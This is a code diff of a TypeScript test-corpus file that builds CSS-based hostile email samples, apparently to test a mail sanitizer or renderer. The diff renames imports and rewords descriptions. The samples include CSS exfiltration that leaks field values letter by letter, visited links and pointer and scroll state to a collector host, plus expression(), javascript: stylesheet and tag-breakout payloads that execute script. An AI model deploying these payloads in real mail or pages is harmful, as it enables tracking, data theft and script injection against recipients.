@@ -1,8 +1,8 @@
-import { COLLECTOR, RUN, mails } from './model.ts';
+import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';
 
 const url = (name: string): string => `url(${COLLECTOR}/css-${name})`;
 
-/** Every property that takes an address. */
+/** All properties with a URL value. */
 const properties: readonly (readonly [property: string, value: string])[] = [
   ['background', url('background')],
   ['background-image', `linear-gradient(red,red),${url('layers')}`],
@@ -30,8 +30,8 @@ const properties: readonly (readonly [property: string, value: string])[] = [
   ['--x', url('variable')],
 ];
 
-/** What a stylesheet fetches, tells and runs. */
-export const styles = mails([
+/** Stylesheets that fetch, leak or run something. */
+export const styles = createEmails([
   ...properties.map(
     ([property, value]) =>
       [
@@ -64,7 +64,7 @@ export const styles = mails([
   ],
   [
     'css-font',
-    'a font tells which letters there are',
+    'a font request leaks the used letters',
     `<style>@font-face{font-family:leak;src:url(${COLLECTOR}/font-a);unicode-range:U+61}p{font-family:leak}</style><p>a</p>`,
   ],
   [
@@ -74,12 +74,12 @@ export const styles = mails([
   ],
   [
     'css-attribute',
-    'what a field holds, letter by letter',
+    'leaks a field value letter by letter',
     `<style>input[value^="s"]{background:${url('attr-s')}}input[value^="t"]{background:${url('attr-t')}}</style><input value=secret>`,
   ],
   [
     'css-has',
-    'whether something is there',
+    'leaks whether elements exist',
     `<style>html:has(base[href]){background:${url('has')}}:has(a:visited){background:${url('visited')}}</style><p>x</p>`,
   ],
   [
@@ -124,17 +124,17 @@ export const styles = mails([
   ],
   [
     'css-pseudo',
-    'what is not in the text',
+    'pseudo-elements',
     `<style>p::before{content:${url('before')}}p::marker{content:${url('marker')}}p::first-line{background:${url('first')}}::selection{background:${url('selection')}}</style><p>x</p>`,
   ],
   [
     'css-hover',
-    'where the pointer is',
+    'leaks the pointer position',
     `<style>p:hover{background:${url('hover')}}input:focus{background:${url('focus')}}a:active{background:${url('active')}}</style><p>x</p><input><a href=#>x</a>`,
   ],
   [
     'css-scroll',
-    'how far it was read',
+    'leaks the scroll position',
     `<style>p{animation:k linear;animation-timeline:view()}@keyframes k{to{background:${url('read')}}}</style><p style="margin-top:2000px">x</p>`,
   ],
   [
@@ -145,19 +145,19 @@ export const styles = mails([
   [
     'css-expression',
     'expressions of old browsers',
-    `<p style="width:expression(${RUN});behavior:url(#default#time2);-ms-behavior:url(x.htc)">x</p><style>p{color:expression(${RUN})}</style>`,
+    `<p style="width:expression(${PAYLOAD});behavior:url(#default#time2);-ms-behavior:url(x.htc)">x</p><style>p{color:expression(${PAYLOAD})}</style>`,
   ],
   [
     'css-js',
     'stylesheets that run',
-    `<style type=text/javascript>${RUN}</style><style>@import "javascript:${RUN}";</style><link rel=stylesheet href="javascript:${RUN}">`,
+    `<style type=text/javascript>${PAYLOAD}</style><style>@import "javascript:${PAYLOAD}";</style><link rel=stylesheet href="javascript:${PAYLOAD}">`,
   ],
   [
     'css-end',
     'out of the stylesheet',
-    `<style>p{}</style/><img src=x onerror=${RUN}><style><img title="</style><img src=x onerror=${RUN}>"></style>`,
+    `<style>p{}</style/><img src=x onerror=${PAYLOAD}><style><img title="</style><img src=x onerror=${PAYLOAD}>"></style>`,
   ],
-  ['css-comment', 'out of a comment', `<style>/*</style><script>${RUN}</script>*/</style>`],
+  ['css-comment', 'out of a comment', `<style>/*</style><script>${PAYLOAD}</script>*/</style>`],
   [
     'css-bom',
     'another encoding',
@@ -175,7 +175,7 @@ export const styles = mails([
   ],
   [
     'css-huge',
-    'sizes beyond all measure',
+    'extreme sizes',
     '<p style="width:1e9px;height:1e9px;font-size:1e9px;margin:-1e9px;filter:blur(1e6px);transform:scale(1e6) rotate3d(1,1,1,9deg)">x</p>',
   ],
   [
